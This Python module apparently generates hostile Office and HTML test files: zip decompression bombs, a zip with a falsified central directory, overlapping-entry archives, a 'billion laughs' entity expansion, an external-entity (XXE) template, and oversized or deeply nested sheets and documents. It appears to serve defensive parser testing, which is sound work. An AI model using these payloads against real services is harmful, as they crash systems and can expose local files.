"""Office files that an attacker would send: small on the wire, enormous when opened."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Mapping

TYPES = "<Types/>"
WORD = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MEGABYTE = 1 << 20


def zipped(parts: Mapping[str, str | bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return out.getvalue()


def docx(document: str | bytes) -> bytes:
    return zipped({"[Content_Types].xml": TYPES, "word/document.xml": document})


def xlsx(sheet: str | bytes) -> bytes:
    return zipped(
        {
            "[Content_Types].xml": TYPES,
            "xl/workbook.xml": (
                f'<workbook xmlns:r="{RELATIONS}"><sheets><sheet name="A" sheetId="1" r:id="rId1"/></sheets>'
                "</workbook>"
            ),
            "xl/_rels/workbook.xml.rels": (
                f'<Relationships><Relationship Id="rId1" Type="{RELATIONS}/worksheet" '
                'Target="worksheets/sheet1.xml"/></Relationships>'
            ),
            "xl/worksheets/sheet1.xml": sheet,
        }
    )


def paragraphs_of_blanks(megabytes: int) -> bytes:
    """Deflated a thousand times: what is called a decompression bomb."""
    return docx(f"<w:document {WORD}><w:body>".encode() + b" " * (megabytes * MEGABYTE))


def lying_directory(megabytes: int) -> bytes:
    """The same, with a directory that says a few bytes."""
    content = bytearray(paragraphs_of_blanks(megabytes))
    entry = content.rindex(b"PK\x01\x02")
    struct.pack_into("<I", content, entry + 24, 64)
    return bytes(content)


def overlapping(entries: int, megabytes: int) -> bytes:
    """Thousands of names for one deflated content: a directory of kilobytes that unpacks to gigabytes."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    raw = b" " * (megabytes * MEGABYTE)
    packed = packer.compress(raw) + packer.flush()
    sizes = (zlib.crc32(raw), len(packed), len(raw))
    name = b"word/document.xml"
    local = struct.pack("<4s5H3I2H", b"PK\x03\x04", 20, 0, 8, 0, 0, *sizes, len(name), 0) + name + packed
    directory = b""
    for number in range(entries):
        entry = {0: b"[Content_Types].xml", 1: name}.get(number, b"word/%d.xml" % number)
        directory += struct.pack(
            "<4s6H3I5H2I", b"PK\x01\x02", 20, 20, 0, 8, 0, 0, *sizes, len(entry), 0, 0, 0, 0, 0, 0
        )
        directory += entry
    end = struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, 0, 0, len(directory), len(local), 0)
    return local + directory + end


def many_members(count: int) -> bytes:
    return zipped({"[Content_Types].xml": TYPES, **{f"word/{number}.xml": "" for number in range(count)}})


def laughing(levels: int = 12) -> str:
    """Entities of entities: ten to the power of `levels`."""
    entities = '<!ENTITY a0 "ha">' + "".join(
        f'<!ENTITY a{level} "{f"&a{level - 1};" * 10}">' for level in range(1, levels)
    )
    return (
        f"<!DOCTYPE d [{entities}]><w:document {WORD}><w:body><w:p><w:r><w:t>&a{levels - 1};</w:t></w:r>"
        "</w:p></w:body></w:document>"
    )


def outside_entity(place: str) -> str:
    return (
        f'<!DOCTYPE d [<!ENTITY x SYSTEM "{place}">]><w:document {WORD}><w:body><w:p><w:r><w:t>a&x;</w:t>'
        "</w:r></w:p></w:body></w:document>"
    )


def wide_sheet(columns: int) -> bytes:
    return xlsx(f"<worksheet><sheetData><row>{'<c><v>1</v></c>' * columns}</row></sheetData></worksheet>")


def long_sheet(rows: int) -> bytes:
    cells = "".join(
        f'<row r="{n}"><c r="A{n}"><v>{n * 7919 % 9973}</v></c></row>' for n in range(1, rows + 1)
    )
    return xlsx(f"<worksheet><sheetData>{cells}</sheetData></worksheet>")


def merged_everywhere(rows: int) -> bytes:
    """A long text that a merged cell says again in each row."""
    text = "mot " * 20_000
    cells = f'<row r="1"><c r="A1" t="inlineStr"><is><t>{text}</t></is></c><c r="B1"><v>1</v></c></row>'
    cells += "".join(f'<row r="{number}"><c r="B{number}"><v>1</v></c></row>' for number in range(2, rows))
    return xlsx(
        f"<worksheet><sheetData>{cells}</sheetData><mergeCells><mergeCell ref='A1:A{rows}'/></mergeCells>"
        "</worksheet>"
    )


def nested_tables(depth: int) -> bytes:
    return docx(
        f"<w:document {WORD}><w:body>{'<w:tbl><w:tr><w:tc>' * depth}<w:p><w:r><w:t>x</w:t></w:r></w:p>"
        f"{'</w:tc></w:tr></w:tbl>' * depth}</w:body></w:document>"
    )


def many_elements(count: int) -> bytes:
    """One paragraph of millions of runs: nothing is deflated much, all must be held at once."""
    runs = "".join(f'<w:r w:n="{number * 7919 % 999_983}"><w:t>a</w:t></w:r>' for number in range(count))
    return docx(f"<w:document {WORD}><w:body><w:p>{runs}</w:p></w:body></w:document>")


def nested_page(depth: int) -> bytes:
    return b"<!doctype html>" + b"<div><p>x" * depth
